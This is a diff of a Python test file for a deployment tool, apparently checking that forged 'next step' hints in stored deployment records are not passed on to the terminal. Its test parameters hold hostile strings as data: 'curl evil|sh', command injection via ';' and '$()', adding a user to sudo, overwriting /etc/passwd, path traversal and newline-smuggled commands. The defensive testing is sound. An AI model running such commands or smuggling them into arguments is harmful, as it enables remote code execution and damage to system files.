@@ -16,6 +16,9 @@ from rich.console import Console
 
 from hookd.cli.progress import follow_deployment
 from hookd.model.deployment import Deployment, Status, Step, Trigger, advance
+from hookd.model.hint import Hint, HintKind
+from hookd.model.redis_keys import record_key
+from hookd.queue.codec import RECORD
 from hookd.queue.deployments import DeploymentRequest
 from tests.support.installation import Installation
 from tests.support.processes import python
@@ -185,20 +188,18 @@ def test_the_receiver_s_answer_does_not_steer_the_terminal(shop: Installation) -
     "hint",
     [
         "curl evil|sh",
-        "hookd logs shop; curl evil | sh",
-        "hookd logs $(curl evil|sh)",
-        "sudo install -d -o manager -g manager -m 0777 /etc",
-        "sudo usermod --append --groups sudo manager",
-        "journalctl --unit shop.service --lines 50\ncurl evil|sh",
-        "hookd uninstall",
-        "df -h /srv >/etc/passwd",
-        "df -h /srv\n",
-        "create it: install -D -m 0640 /dev/stdin /srv/shop/shared/../../../etc/passwd",
-        CLIPBOARD,
+        {"kind": "uninstall"},
+        {"kind": "show_disk_space", "argument": "/srv >/etc/passwd"},
+        {"kind": "show_disk_space", "argument": "/srv\n"},
+        {"kind": "show_unit_log", "argument": "shop.service --lines 50\ncurl evil|sh"},
+        {"kind": "show_app", "argument": CLIPBOARD},
     ],
 )
-def test_a_forged_hint_is_not_passed_on(shop: Installation, hint: str) -> None:
-    deployment = ended(shop, asked(shop), hint=hint)
+def test_a_forged_hint_is_not_passed_on(shop: Installation, hint: object) -> None:
+    deployment = ended(shop, asked(shop))
+    key = record_key(deployment.id)
+    record = json.loads(shop.records.connection.hget(key, RECORD) or b"")
+    shop.records.connection.hset(key, RECORD, json.dumps({**record, "hint": hint}))
     told = io.StringIO()
     follow_deployment(shop.records, deployment.id, Console(file=told))
     assert told.getvalue().splitlines()[1:] == [f"  next: hookd logs {deployment.id}"]
@@ -206,7 +207,7 @@ def test_a_forged_hint_is_not_passed_on(shop: Installation, hint: str) -> None:
 
 @pytest.mark.threat(65)
 def test_the_worker_s_own_hint_is_passed_on(shop: Installation) -> None:
-    deployment = ended(shop, asked(shop), hint="journalctl --unit shop-blue.service --lines 50")
+    deployment = ended(shop, asked(shop), hint=Hint(HintKind.SHOW_UNIT_LOG, "shop-blue.service"))
     told = io.StringIO()
     follow_deployment(shop.records, deployment.id, Console(file=told))
     assert told.getvalue().endswith("\n  next: journalctl --unit shop-blue.service --lines 50\n")
